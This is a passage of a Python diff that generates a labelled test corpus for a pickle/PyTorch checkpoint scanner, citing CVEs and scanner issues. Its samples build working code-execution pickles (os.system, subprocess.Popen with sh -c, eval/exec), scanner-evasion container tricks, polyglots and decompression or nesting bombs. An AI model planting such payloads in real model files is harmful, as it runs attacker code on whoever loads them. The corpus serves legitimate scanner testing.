+    add("binpersid_int.pkl", PROTO2 + integer(7) + BINPERSID + STOP, "unsafe", "pickle_persid_refused",
+        "BINPERSID with an int id", "pth-format §3.3")
+    add("newobj_device_no_build.pkl", PROTO2 + glob("torch", "device") + EMPTY_TUPLE + NEWOBJ + STOP, "unsafe",
+        "pickle_call_refused", "NEWOBJ on an allowed C class without arguments or BUILD",
+        "pth-format §3.9 (test_weights_only_newobj_requires_build)",
+        alt=[{"verdict": "malformed", "rule": "bad_rebuild_args"}])
+    add("reduce_on_dtype.pkl", PROTO2 + glob("torch", "float32") + EMPTY_TUPLE + REDUCE + STOP, "unsafe", "pickle_call_refused",
+        "REDUCE on an allowed non-callable (torch.float32)", "policy.md Opcodes")
+    add("build_on_dict.pkl", PROTO2 + EMPTY_DICT + enc({"__class__": 1}) + BUILD + STOP, "unsafe", "pickle_build_refused",
+        "BUILD on a plain dict", "policy.md Opcodes; modelscan#85 (BUILD setattr)")
+    add("build_on_list.pkl", PROTO2 + EMPTY_LIST + enc(({}, {"append": 1})) + BUILD + STOP, "unsafe", "pickle_build_refused",
+        "BUILD with slot state on a list", "policy.md Opcodes")
+    add("append_on_dict.pkl", PROTO2 + EMPTY_DICT + integer(1) + APPEND + STOP, "unsafe", "pickle_append_refused",
+        "APPEND on a dict", "policy.md Opcodes")
+    add("appends_on_set.pkl", PROTO2 + glob("builtins", "set") + EMPTY_TUPLE + REDUCE + MARK + integer(1) + APPENDS + STOP,
+        "unsafe", "pickle_append_refused", "APPENDS on a set (allowed global, wrong container)", "pth-format §3.3")
+    add("setitem_on_list.pkl", PROTO2 + EMPTY_LIST + integer(0) + integer(1) + SETITEM + STOP, "unsafe", "pickle_setitem_refused",
+        "SETITEM on a list", "CVE-2026-24747 (GHSA-63cw-57p8-fm3p)")
+    add("setitems_on_size.pkl", PROTO2 + glob("torch", "Size") + enc(((2, 3),)) + REDUCE + MARK + integer(0) + integer(9) + SETITEMS + STOP,
+        "unsafe", "pickle_setitem_refused", "SETITEMS on a torch.Size", "CVE-2026-24747")
+
+    # Payload first, broken after (CPython runs REDUCE before it reaches the damage).
+    add("payload_then_truncated.pkl", (PROTO2 + call("os", "system", CMD) + POP + EMPTY_DICT + uni("abcdef"))[:-3],
+        "unsafe", B, "REDUCE os.system, then the stream is cut", "nullifAI (ReversingLabs 2025); peers §2b")
+    add("payload_then_bad_opcode.pt", PROTO2 + call("subprocess", "Popen", ["sh", "-c", CMD]) + POP + b"\xff\xfe" + STOP,
+        "unsafe", G, "REDUCE subprocess.Popen, then an invalid opcode (.pt name)", "nullifAI; peers §2b")
+    add("payload_then_junk.bin", PROTO2 + call("builtins", "exec", f"import os; os.system({CMD!r})") + b"\x00" * 40,
+        "unsafe", G, "payload then zero bytes without STOP (.bin name)", "nullifAI; peers §2b")
+    # Payload after a malformed point on which CPython's readers disagree.
+    add("octal_int_then_payload.pkl", b"I0777\n0" + call("os", "system", CMD) + STOP,
+        "unsafe", B, "text INT '0777' (C strtol base 0 reads 511, pickle.py raises), then a payload",
+        "PickleFuzzer arXiv 2605.15084; policy.md")
+    add("reduce_list_args_then_payload.pkl", PROTO2 + glob("builtins", "set") + EMPTY_LIST + REDUCE + POP + call("os", "system", CMD) + STOP,
+        "unsafe", B, "REDUCE whose args are a list (pickle.py calls, _pickle raises), then a payload",
+        "PickleFuzzer arXiv 2605.15084; policy.md")
+    add("underscore_int_then_payload.pkl", b"I1_000\n0" + call("posix", "system", CMD) + STOP,
+        "unsafe", B, "text INT with an underscore, then a payload", "PickleFuzzer; policy.md")
+    add("frame_overrun_then_payload.pkl", b"\x80\x04\x95" + u64(10_000) + call("os", "system", CMD) + STOP,
+        "unsafe", B, "FRAME longer than the data, payload inside", "fickling FRAME length analysis; peers §2b")
+    body = call("os", "system", CMD) + STOP
+    add("frame_straddle_payload.pkl", b"\x80\x04\x95" + u64(5) + body, "unsafe", B,
+        "FRAME ends inside the GLOBAL operand of the payload", "policy.md (operands straddling a FRAME end)")
+    add("second_proto_then_payload.pkl", PROTO2 + EMPTY_DICT + POP + b"\x80\x05" + call("os", "system", CMD) + STOP,
+        "unsafe", B, "misplaced second PROTO, then a payload", "fickling DuplicateProto/MisplacedProto")
+
+    # Protocol 0/1 text pickles made by CPython's own pickler, under checkpoint names.
+    class P0:
+        def __reduce__(self):
+            return (os.system, (CMD,))
+    add("proto0_text.bin", pickle.dumps(P0(), protocol=0), "unsafe", B,
+        "protocol 0 text pickle in a .bin file", "CVE-2025-10155; ModelAudit #624")
+    add("proto1_text.pt", pickle.dumps(P0(), protocol=1), "unsafe", B,
+        "protocol 1 pickle in a .pt file", "CVE-2025-10155; CVE-2025-1889")
+
+    class P0e:
+        def __reduce__(self):
+            return (eval, (f"__import__('os').system({CMD!r})",))
+    add("proto0_eval.txt", pickle.dumps(P0e(), protocol=0), "unsafe", G,
+        "protocol 0 pickle named payload.txt-style", "ModelAudit #624")
+
+    # Bytes after STOP: a second pickle.
+    benign = pickle.dumps({"a": 1}, protocol=2)
+    add("after_stop_pickle.pkl", benign + SYSTEM, "unsafe", B, "malicious pickle after the STOP of a benign one",
+        "policy.md (bytes after STOP scanned)")
+    add("after_stop_junk.pkl", benign + b"garbage\x00\x01", "malformed", "pickle_trailing_data", "junk after STOP",
+        "policy.md")
+    add("after_stop_benign.pkl", benign + benign, "malformed", "pickle_trailing_data", "two benign pickles back to back",
+        "policy.md")
+
+
+def gen_containers():
+    """peers.md §2c: container tricks, and the CVE fixes of pth-format.md §3.9."""
+    B, G = "pickle_global_blocked", "pickle_global_refused"
+    sd = base_state_dict(2)
+    tb = torch_bytes(sd)
+    base = records_of(tb)
+    # Self-check: the writer reproduces torch's archive byte for byte.
+    assert rezip(base) == tb, "zip writer drifted from torch's layout"
+    orig = data_pkl(base)
+    evil = inject(orig, call("os", "system", CMD))
+
+    def with_recs(recs, **kw):
+        return build_zip(recs, **kw)
+
+    R = lambda name, data, **kw: Rec(name, data, **kw)  # noqa: E731
+
+    # Hidden pickles in records torch never reads.
+    add("extra_record_pickle.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/extra/payload.pkl", SYSTEM)]),
+        "unsafe", B, "malicious pickle in an extra record", "ModelAudit PR #1043/#1098; policy.md")
+    p0 = pickle.dumps(type("X", (), {"__reduce__": lambda s: (eval, ("1",))})(), protocol=0)
+    add("extra_record_noext_proto0.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/model_config", p0)]),
+        "unsafe", G, "protocol 0 pickle in an extensionless extra record", "ModelAudit PR #1098; peers §2c")
+    recs = [Rec(r.name, r.data) for r in base]
+    recs.insert(-2, R("archive/data/7", SYSTEM))
+    add("data_key_record_pickle.pt", with_recs(recs), "unsafe", B,
+        "pickle hidden in an unreferenced data/<key> record", "ModelAudit PR #1043; peers §2c")
+    big_first = pickle.dumps({"pad": "x" * 6000}, protocol=2)[:-1] + POP + call("os", "system", CMD)[0:] + STOP
+    add("extra_record_late_payload.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/aux.pkl", big_first)]),
+        "unsafe", B, "payload beyond the first 4 KiB of an extra pickle record", "ModelAudit PR #1654 review")
+    add("no_data_pkl_only_payload.pt", with_recs([R("archive/payload.pkl", SYSTEM), R("archive/version", b"3\n")]),
+        "unsafe", B, "archive without data.pkl whose only pickle is malicious", "policy.md (every pickle examined)")
+
+    # Duplicate names.
+    dp = [r for r in base if r.name.endswith("/data.pkl")][0]
+    rest = [Rec(r.name, r.data) for r in base if r is not dp]
+    add("dup_data_pkl_first_evil.pt", with_recs([R(dp.name, evil), R(dp.name, orig)] + rest), "unsafe", B,
+        "duplicate data.pkl, the first one malicious", "google/saferpickle PR #42; ModelAudit #1408")
+    add("dup_data_pkl_last_evil.pt", with_recs([R(dp.name, orig)] + rest + [R(dp.name, evil)]), "unsafe", B,
+        "duplicate data.pkl, the last one malicious", "google/saferpickle PR #42")
+    add("dup_data_pkl_benign.pt", with_recs([R(dp.name, orig), R(dp.name, orig)] + rest), "malformed", "zip_duplicate_name",
+        "duplicate data.pkl, both benign and identical", "policy.md Containers")
+    add("case_dup_evil.pt", with_recs([R(dp.name, orig)] + rest + [R("archive/DATA.PKL", evil)]), "unsafe", B,
+        "case-only duplicate archive/DATA.PKL holds the payload (miniz lookup may be case-insensitive)",
+        "pth-format §1.1 (miniz locate_file); peers §2c")
+    add("case_dup_benign.pt", with_recs([R(dp.name, orig)] + rest + [R("archive/Data.pkl", orig)]), "malformed",
+        "zip_duplicate_name", "case-only duplicate of data.pkl, benign", "policy.md Containers")
+    add("dup_storage_record.pt", with_recs([Rec(r.name, r.data) for r in base]
+                                           + [R([r.name for r in base if "/data/0" in r.name][0], b"\x00" * 24)]),
+        "malformed", "zip_duplicate_name", "duplicate data/0 storage record", "policy.md Containers")
+
+    # Two top folders.
+    add("two_roots_second_evil.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("zzz/data.pkl", evil), R("zzz/version", b"3\n")]),
+        "unsafe", B, "second top folder with a malicious data.pkl", "pth-format §1.1; gopickle basename collision")
+    add("two_roots_first_evil.pt", with_recs([R("aaa/data.pkl", evil), R("aaa/version", b"3\n")] + [Rec(r.name, r.data) for r in base]),
+        "unsafe", B, "first top folder (the one torch picks) malicious, second benign", "pth-format §1.1")
+    add("two_roots_benign.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("other/data.pkl", orig), R("other/version", b"3\n")]),
+        "malformed", "zip_multiple_roots", "two top folders, both benign", "policy.md Containers")
+
+    # CRC, local/central disagreement, flags.
+    add("bad_crc_evil.pt", with_recs([R(r.name, evil if r is dp else r.data, crc=(0xDEADBEEF if r is dp else None)) for r in base]),
+        "unsafe", B, "malicious data.pkl with a wrong CRC (torch never checks CRCs)", "CVE-2025-10156; picklescan malicious1_crc.zip")
+    add("bad_crc_benign.pt", with_recs([R(r.name, r.data, crc=(0xDEADBEEF if r is dp else None)) for r in base]),
+        "malformed", "zip_crc_mismatch", "benign data.pkl with a wrong CRC", "CVE-2025-10156; policy.md")
+    add("local_name_mismatch_benign.pt", with_recs([R(r.name, r.data, local_name=("archive/data.pkx" if r is dp else r.name)) for r in base]),
+        "malformed", "zip_local_header", "local header name differs from the central directory", "CVE-2025-1944 (GHSA-7q5r-7gvp-wc82)")
+    add("local_name_mismatch_evil.pt", with_recs([R(r.name, evil if r is dp else r.data, local_name=("archive/zzzz.pkl" if r is dp else r.name)) for r in base]),
+        "unsafe", B, "local/central name mismatch on a malicious data.pkl", "CVE-2025-1944")
+    add("encrypted_flag_benign.pt", with_recs([R(r.name, r.data, local_flags=(0x0809 if r is dp else 0x0808), central_flags=(0x0809 if r is dp else 0x0808)) for r in base]),
+        "malformed", "zip_unsupported_flags", "encryption flag bit on data.pkl (data is plain)", "CVE-2025-1945 (GHSA-w8jq-xcqf-f792)")
+    add("encrypted_flag_local_evil.pt", with_recs([R(r.name, evil if r is dp else r.data, local_flags=(0x0809 if r is dp else 0x0808)) for r in base]),
+        "unsafe", B, "encryption flag in the local header only, malicious data.pkl", "CVE-2025-1945")
+    add("method_mismatch_benign.pt", with_recs([R(r.name, r.data, method_central=(8 if r is dp else 0)) for r in base]),
+        "malformed", "zip_local_header", "central says deflate, local says stored", "policy.md Containers",
+        alt=[{"verdict": "malformed", "rule": "zip_inflate_failed"}, {"verdict": "malformed", "rule": "zip_parser_disagree"},
+             {"verdict": "malformed", "rule": "zip_libzip_rejected"}])
+    add("unsupported_method.pt", with_recs([R(r.name, r.data, method_central=(12 if r is dp else 0), method_local=(12 if r is dp else 0)) for r in base]),
+        "malformed", "zip_unsupported_method", "data.pkl with compression method 12 (bzip2) in the directory",
+        "policy.md Containers", alt=[{"verdict": "malformed", "rule": "zip_local_header"}])
+
+    # Fail-open iteration: a corrupt member before data.pkl (modelscan#354).
+    bad = Rec("archive/aaa_corrupt", b"x" * 64, method=8)
+    recs = [bad] + [R(r.name, evil if r is dp else r.data) for r in base]
+    z = bytearray(with_recs(recs))
+    n, e = struct.unpack_from("<HH", z, 26)           # first local header is at offset 0
+    z[30 + n + e:30 + n + e + 4] = b"\xff\xff\xff\xff"  # deflate block type 3 (invalid)
+    add("corrupt_member_before_evil.pt", bytes(z), "unsafe", B,
+        "a corrupt deflated member placed before a malicious data.pkl", "protectai/modelscan#354 (fail-open)")
+
+    # Prepended / appended data (polyglots).
+    add("appended_junk.pt", with_recs(base, append=b"trailing bytes\n" * 4), "malformed", "zip_trailing_data",
+        "bytes appended after the EOCD", "peers §2c polyglots")
+    add("appended_pickle.pt", with_recs(base, append=SYSTEM), "unsafe", B,
+        "malicious pickle appended after the zip (polyglot)", "peers §2c polyglots; fickling polyglot")
+    add("prepended_pickle.pt", with_recs(base, prepend=SYSTEM), "unsafe", B,
+        "malicious pickle prepended to a zip: torch.load takes the legacy pickle path", "pth-format §0; peers §2c polyglots")
+    add("prepended_junk.pt", with_recs(base, prepend=b"\x00" * 100), "malformed", "not_a_checkpoint",
+        "100 bytes prepended to a valid zip (zip readers still find the EOCD)", "pth-format §0 (torch needs PK at offset 0)",
+        alt=[{"verdict": "malformed", "rule": "zip_bad_eocd"}, {"verdict": "malformed", "rule": "zip_out_of_bounds"}])
+
+    # Zip64 lies.
+    add("zip64_cd_offset_lie.pt", with_recs(base, zip64_eocd_patch={"cd_offset": 10**12}), "malformed", "zip_bad_eocd",
+        "zip64 EOCD central-directory offset points past the file", "peers §2c zip64 lies",
+        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}, {"verdict": "malformed", "rule": "zip_no_eocd"}])
+    add("zip64_entry_count_lie.pt", with_recs(base, zip64_eocd_patch={"entries": 3, "entries_total": 3}), "malformed", "zip_bad_eocd",
+        "zip64 EOCD entry count disagrees with the classic EOCD and the directory", "peers §2c zip64 lies",
+        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}])
+    st = [r for r in base if "/data/0" in r.name][0]
+    add("zip64_size_lie.pt", with_recs([R(r.name, r.data, usize=(2**40 if r is st else None), csize=(2**40 if r is st else None)) for r in base]),
+        "malformed", "zip_out_of_bounds", "zip64 extra declares a 1 TiB stored record in a tiny file", "peers §2c zip64 lies",
+        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}, {"verdict": "malformed", "rule": "zip_bad_central_entry"},
+             {"verdict": "malformed", "rule": "storage_size_mismatch"}, {"verdict": "malformed", "rule": "zip_local_header"}])
+    add("offset_out_of_bounds.pt", with_recs([R(r.name, r.data, offset=(10**9 if r is st else None)) for r in base]),
+        "malformed", "zip_out_of_bounds", "local header offset beyond the end of the file", "policy.md Containers",
+        alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"}, {"verdict": "malformed", "rule": "zip_local_header"},
+             {"verdict": "malformed", "rule": "zip_bad_central_entry"}])
+    first_off = 0
+    add("overlapping_records.pt", with_recs([R(r.name, r.data, offset=(first_off if r.name.endswith("/version") else None)) for r in base]),
+        "malformed", "zip_overlap", "two central entries share one local header", "policy.md Containers",
+        alt=[{"verdict": "malformed", "rule": "zip_local_header"}, {"verdict": "malformed", "rule": "zip_libzip_rejected"}])
+    for fname, badname, tech in (("name_dotdot.pt", "archive/../evil.pkl", "'..' component"),
+                                 ("name_backslash.pt", "archive\\data\\1", "backslash in a name"),
+                                 ("name_absolute.pt", "/archive/extra", "absolute path"),
+                                 ("name_nul.pt", "archive/ex\x00tra", "NUL in a name")):
+        add(fname, with_recs([Rec(r.name, r.data) for r in base] + [R(badname, b"x")]), "malformed", "zip_bad_name",
+            f"member name with {tech}", "peers §2c path traversal; policy.md",
+            alt=[{"verdict": "malformed", "rule": "zip_multiple_roots"}, {"verdict": "malformed", "rule": "zip_libzip_rejected"}])
+
+    # Deflate bombs (small files, huge inflation; no big bytes on disk).
+    zeros = b"\x00" * (16 << 20)  # 16 MiB of zeros deflate to ~16 KiB (ratio ~1000)
+    pkl = tensor_pickle(4 << 20, [4 << 20], [1])
+    recs = [R("archive/data.pkl", pkl), R("archive/byteorder", b"little"), Rec("archive/data/0", zeros, method=8),
+            R("archive/version", b"3\n")]
+    add("deflate_bomb_storage.pt", with_recs(recs), "malformed", "zip_inflate_limit",
+        "data/0 deflated 16 MiB -> 16 KiB (ratio ~1000 > 250)", "safetensors attacks/torch_dos_create.py; peers §2c")
+    lie = Rec("archive/data/0", b"\x00" * (1 << 20), method=8, usize=40 * 10**9, zip64_extra=True)
+    recs = [R("archive/data.pkl", tensor_pickle(10 * 10**9, [10 * 10**9], [1])), R("archive/byteorder", b"little"), lie,
+            R("archive/version", b"3\n")]
+    add("deflate_bomb_40gb_declared.pt", with_recs(recs), "malformed", "zip_inflate_limit",
+        "data/0 declares 40 GB (zip64) from 1 KiB of deflate", "safetensors attacks/torch_dos_create.py",
+        alt=[{"verdict": "malformed", "rule": "zip_inflate_failed"}, {"verdict": "malformed", "rule": "zip_bad_central_entry"},
+             {"verdict": "malformed", "rule": "limit_exceeded"}])
+    bomb_pkl = PROTO2 + b"X" + u32(16 << 20) + b"a" * (16 << 20) + STOP
+    recs = [Rec("archive/data.pkl", bomb_pkl, method=8), R("archive/version", b"3\n")]
+    add("deflate_bomb_data_pkl.pt", with_recs(recs), "malformed", "zip_inflate_limit",
+        "data.pkl itself deflated 16 MiB -> 16 KiB", "peers §2c compression bombs")
+
+    # CVE-2026-24747 and tensor geometry (pth-format §3.6 / §3.9).
+    f4 = lambda n: struct.pack(f"<{n}f", *range(n))  # noqa: E731
+    add("storage_numel_gt_record.pt", tensor_zip(tensor_pickle(1 << 20, [1 << 20], [1]), f4(4)), "malformed", "storage_size_mismatch",
+        "persistent id declares 1 Mi floats, record holds 4", "CVE-2026-24747 (GHSA-63cw-57p8-fm3p) part 2")
+    add("storage_numel_lt_record.pt", tensor_zip(tensor_pickle(2, [2], [1]), f4(4)), "malformed", "storage_size_mismatch",
+        "persistent id declares 2 floats, record holds 4", "pth-format §1.7 (2.10+ record size check)")
+    add("tensor_view_oob.pt", tensor_zip(tensor_pickle(4, [10], [1]), f4(4)), "malformed", "tensor_out_of_bounds",
+        "view of 10 elements on a 4-element storage", "pytorch/pytorch#183381; pth-format §3.6")
+    add("tensor_offset_oob.pt", tensor_zip(tensor_pickle(4, [2], [1], offset=3), f4(4)), "malformed", "tensor_out_of_bounds",
+        "storage offset 3 + 2 elements on a 4-element storage", "pytorch/pytorch#183381")
+    add("tensor_stride_overflow.pt", tensor_zip(tensor_pickle(4, [4, 2], [2**62, 1]), f4(4)), "malformed", "tensor_out_of_bounds",
+        "stride 2^62 (extent overflows int64)", "pytorch/pytorch#181310 / #183381",
+        alt=[{"verdict": "malformed", "rule": "tensor_bad_geometry"}])
+    add("tensor_negative_stride.pt", tensor_zip(tensor_pickle(4, [2], [-1], offset=1), f4(4)), "malformed", "tensor_bad_geometry",
+        "negative stride", "pth-format §3.6")
+    add("tensor_numel_overflow.pt", tensor_zip(tensor_pickle(2**62, [2**31, 2**31], [2**31, 1]), f4(4)), "malformed", "storage_size_mismatch",
+        "numel x itemsize overflows (2^62 floats)", "pytorch/pytorch#181310",
+        alt=[{"verdict": "malformed", "rule": "tensor_bad_geometry"}, {"verdict": "malformed", "rule": "limit_exceeded"},
+             {"verdict": "malformed", "rule": "bad_persistent_id"}])
+    setitem_tensor = tensor_pickle(4, [4], [1], extra=integer(100) + integer(7) + SETITEM)
+    add("setitem_on_tensor.pt", tensor_zip(setitem_tensor, f4(4)), "unsafe", "pickle_setitem_refused",
+        "SETITEM on a rebuilt tensor (tensor.__setitem__ with an out-of-range index)", "CVE-2026-24747 part 1")
+    setitems_tensor = tensor_pickle(4, [4], [1], extra=MARK + integer(10**6) + integer(1) + SETITEMS)
+    add("setitems_on_tensor.pt", tensor_zip(setitems_tensor, f4(4)), "unsafe", "pickle_setitem_refused",
+        "SETITEMS on a rebuilt tensor", "CVE-2026-24747 part 1")
+    add("storage_two_dtypes.pt", tensor_zip(PROTO2 + EMPTY_LIST + MARK + tensor_expr(4, [4], [1])
+                                            + tensor_expr(2, [2], [1], storage="DoubleStorage") + APPENDS + STOP, f4(4)), "malformed", "storage_dtype_conflict",
+        "one storage key used as float32[4] and float64[2]", "pth-format §2.2",
+        alt=[{"verdict": "malformed", "rule": "storage_size_mismatch"}])
+
+    # Quantized and sparse tensors whose geometry lies (torch-made, then patched / saved unchecked).
+    q = torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)
+    recs = records_of(torch_bytes({"q": q}))
+    qp = data_pkl(recs)
+    assert qp.count(b"K\x01\x85q\x09") == 1
+    add("qtensor_stride_oob.pt", rezip(replace(recs, "/data.pkl", qp.replace(b"K\x01\x85q\x09", b"M\xe8\x03\x85q\x09"))),
+        "malformed", "tensor_out_of_bounds", "quantized tensor with stride 1000 on a 4-byte storage",
+        "GHSA-jg6j-8w4h-2pg2 (pytorch/pytorch#184652)",
+        alt=[{"verdict": "malformed", "rule": "unsupported_feature"}])
+    sp = torch.sparse_coo_tensor(torch.tensor([[0, 1, 1000]]), torch.tensor([1.0, 2.0, 3.0]), (4,), check_invariants=False)
+    add("sparse_index_oob.pt", torch_bytes({"s": sp}), "malformed", "tensor_out_of_bounds",
+        "sparse COO tensor with index 1000 in a size-4 dimension", "CVE-2025-62164; pytorch/pytorch#184750",
+        alt=[{"verdict": "malformed", "rule": "unsupported_feature"}, {"verdict": "malformed", "rule": "bad_rebuild_args"}])
+
+    # TorchScript, tar, legacy, preview.
+    torch.manual_seed(3)
+    ts = torch.jit.script(torch.nn.Linear(2, 2))
+    buf = io.BytesIO()
+    torch.jit.save(ts, buf)
+    add("torchscript_module.pt", buf.getvalue(), "unsafe", "torchscript_archive",
+        "torch.jit.save of a tiny scripted module", "CVE-2025-32434 (GHSA-53q9-r3pm-6pq6)")
+    add("constants_pkl_only.pt", with_recs([Rec(r.name, r.data) for r in base] + [R("archive/constants.pkl", pickle.dumps((), protocol=2))]),
+        "unsafe", "torchscript_archive", "a plain state_dict plus a constants.pkl record (routes to torch.jit.load <2.6)",
+        "CVE-2025-32434")
+
+    tbuf = io.BytesIO()
+    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        for name, data in (("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
+                                                        "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)),
+                           ("pickle", pickle.dumps([1, 2], protocol=2)),
+                           ("tensors", struct.pack("<q", 0)),
+                           ("storages", struct.pack("<q", 0))):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            info.mtime = 0
+            t.addfile(info, io.BytesIO(data))
+    add("legacy_tar.pt", tbuf.getvalue(), "unsafe", "tar_format", "pre-0.1.10 tar checkpoint",
+        "CVE-2025-32434 (tar path, PR #145020)")
+    add("preview_pytorch1.pt", b"PYTORCH1" + b"\x00" * 56, "unsafe", "preview_archive", "PYTORCH1 preview archive",
+        "pth-format §1.1")
+    add("gzip_wrapped_pickle.pt", gzip.compress(SYSTEM, mtime=0), "malformed", "not_a_checkpoint",
+        "gzip-wrapped malicious pickle (.pt.gz unwrapped by user code)", "modelscan PR #345; picklescan PR #68")
+
+    # Legacy stacked pickles (0.1.10-1.5): every one of the five is a pickle.
+    legacy = torch_bytes(sd, _use_new_zipfile_serialization=False)
+    parts, pos = [], 0
+    for _ in range(5):
+        stream = io.BytesIO(legacy[pos:])
+        end = None
+        for op, arg, p in pickletools.genops(stream):
+            if op.name == "STOP":
+                end = p + 1
+                break
+        parts.append(legacy[pos:pos + end])
+        pos += end
+    tail = legacy[pos:]
+    assert b"".join(parts) + tail == legacy
+    # Storage keys are str(pointer) and the key list is sorted(): rename the keys in order of first
+    # use in the main pickle and rewrite the key list and the data blocks in that order, so that
+    # the file is reproducible. (All storages here are float32: 8-byte count + 4 bytes each.)
+    keys = [arg for op, arg, _ in pickletools.genops(parts[4]) if op.name == "BINUNICODE"]
+    blocks, at = {}, 0
+    for k in keys:
+        (count,) = struct.unpack_from("<q", tail, at)
+        blocks[k] = tail[at:at + 8 + 4 * count]
+        at += 8 + 4 * count
+    assert at == len(tail)
+    used = [arg for op, arg, _ in pickletools.genops(parts[3]) if op.name == "BINUNICODE" and arg in blocks]
+    order = list(dict.fromkeys(used))
+    assert sorted(order) == sorted(keys)
+    new = {k: str(10 ** 13 + n) for n, k in enumerate(order)}
+    main = parts[3]
+    for k in order:
+        main = main.replace(uni(k), uni(new[k]))
+    parts[3] = main
+    parts[4] = pickle.dumps([new[k] for k in order], protocol=2)
+    tail = b"".join(blocks[k] for k in order)
+    legacy = b"".join(parts) + tail
+    torch_loads_weights_only(legacy)
+    add("legacy_benign.pt", legacy, "safe", None, "legacy 0.1.10-1.5 stacked-pickle file made by torch (benign)",
+        "pth-format §3.8; policy.md Containers (legacy read)")
+    add("legacy_main_evil.pt", b"".join(parts[:3]) + inject(parts[3], call("os", "system", CMD)) + parts[4] + tail, "unsafe", B,
+        "legacy file with a payload in the main pickle", "pth-format §3.8")
+    add("legacy_magic_eval.pt", pk(call("builtins", "eval", "0x1950a86a20f9469cfc6c")) + b"".join(parts[1:]) + tail, "unsafe", G,
+        "legacy magic number computed by eval instead of a literal", "picklescan pytorch_magic_bypass.pt; peers §2b")
+    add("legacy_sysinfo_evil.pt", b"".join(parts[:2]) + inject(parts[2], call("posix", "system", CMD)) + b"".join(parts[3:]) + tail,
+        "unsafe", B, "legacy file with a payload in the sys_info pickle", "policy.md (each pickle of a legacy file)")
+    add("legacy_keys_evil.pt", b"".join(parts[:4]) + inject(parts[4], call("subprocess", "Popen", ["sh", "-c", CMD])) + tail,
+        "unsafe", G, "legacy file with a payload in the storage-keys pickle", "policy.md (each pickle of a legacy file)")
+
+
+def gen_resources():
+    """peers.md §2d: resource exhaustion; truncated and non-checkpoint input."""
+    L = "limit_exceeded"
+    # Memo billion laughs: x_{k+1} = [x_k] * 10 through BINGET, 9 levels = 10^9 leaves.
+    body = EMPTY_LIST + put(0)
+    for k in range(1, 10):
+        body += POP + EMPTY_LIST + MARK + get(k - 1) * 10 + APPENDS + put(k)
+    add("memo_billion_laughs.pkl", pk(body), "malformed", L, "memo billion laughs: 10 BINGETs per level, 9 levels",
+        "peers §2d", alt=[{"verdict": "safe", "rule": None}])
+    body = EMPTY_TUPLE + put(0)
+    for k in range(1, 64):
+        body += POP + get(k - 1) + get(k - 1) + b"\x86" + put(k)  # TUPLE2 of the previous one twice
+    add("memo_doubling_tuples.pkl", pk(body), "malformed", L, "BINGET doubling of tuples: 2^63 logical leaves",
+        "peers §2d", alt=[{"verdict": "safe", "rule": None}])
+    add("mark_flood_1e6.pkl", PROTO2 + MARK * 1_000_000 + STOP, "malformed", L, "10^6 nested MARKs",
+        "peers §2d deep nesting")
+    add("binunicode_4gib.pkl", PROTO2 + b"X" + u32(0xFFFFFFFF) + b"abc" + STOP, "malformed", L,
+        "BINUNICODE declaring 4 GiB in a tiny file", "peers §2d huge declared lengths",
+        alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
+    add("binunicode8_huge.pkl", b"\x80\x04\x8d" + u64(2**62) + b"abc" + STOP, "malformed", L,
+        "BINUNICODE8 declaring 2^62 bytes", "peers §2d", alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
+    add("binbytes8_huge.pkl", b"\x80\x04\x8e" + u64(2**63 - 1) + b"abc" + STOP, "malformed", L,
+        "BINBYTES8 declaring 2^63-1 bytes", "peers §2d", alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
+    add("long4_huge_length.pkl", PROTO2 + b"\x8b" + i32(2**31 - 1) + b"\x01" * 8 + STOP, "malformed", L,
+        "LONG4 declaring 2 GiB of digits", "peers §2d enormous ints", alt=[{"verdict": "malformed", "rule": "pickle_truncated"}])
+    add("long4_5000_bytes.pkl", PROTO2 + b"\x8b" + i32(5000) + b"\x7f" * 5000 + STOP, "malformed", L,
+        "LONG4 with 5000 real bytes (> max_int_bytes 4096)", "peers §2d enormous ints")
+    add("text_int_5000_digits.pkl", b"I" + b"9" * 5000 + b"\n.", "malformed", L,
+        "text INT with 5000 digits (CPython's 4300-digit limit)", "peers §2d; CPython int max_str_digits",
+        alt=[{"verdict": "malformed", "rule": "pickle_bad_text"}])
+    add("deep_lists_20000.pkl", PROTO2 + EMPTY_LIST * 20000 + APPEND * 19999 + STOP, "malformed", L,
+        "lists nested 20,000 deep", "peers §2d deep nesting (fickling #196)")
+    add("deep_tuples_5000.pkl", PROTO2 + MARK * 5000 + EMPTY_TUPLE + TUPLE * 5000 + STOP, "malformed", L,
+        "tuples nested 5,000 deep through MARK/TUPLE", "peers §2d deep nesting")
+    add("deep_dicts_5000.pkl", PROTO2 + (EMPTY_DICT + integer(1)) * 5000 + NONE + SETITEM * 5000 + STOP, "malformed", L,
+        "dicts nested 5,000 deep", "peers §2d deep nesting")
+    add("self_cycle_list.pkl", PROTO2 + EMPTY_LIST + put(0) + get(0) + APPEND + STOP, "malformed", "pickle_cycle",
+        "a list that contains itself (through the memo)", "peers §2d cyclic references")
+    add("dict_cycle.pkl", PROTO2 + EMPTY_DICT + put(0) + uni("self") + EMPTY_LIST + get(0) + APPEND + SETITEM + STOP,
+        "malformed", "pickle_cycle", "dict -> list -> same dict", "peers §2d cyclic references")
+    # Truncated and non-checkpoint input.
+    tb = torch_bytes(base_state_dict(4))
+    add("truncated_zip_half.pt", tb[: len(tb) // 2], "malformed", "zip_no_eocd", "torch zip cut in half",
+        "peers §2d truncated data", alt=[{"verdict": "malformed", "rule": "zip_libzip_rejected"},
+                                          {"verdict": "malformed", "rule": "zip_bad_eocd"}])
+    add("truncated_zip_eocd.pt", tb[:-7], "malformed", "zip_no_eocd", "torch zip with its last 7 bytes cut",
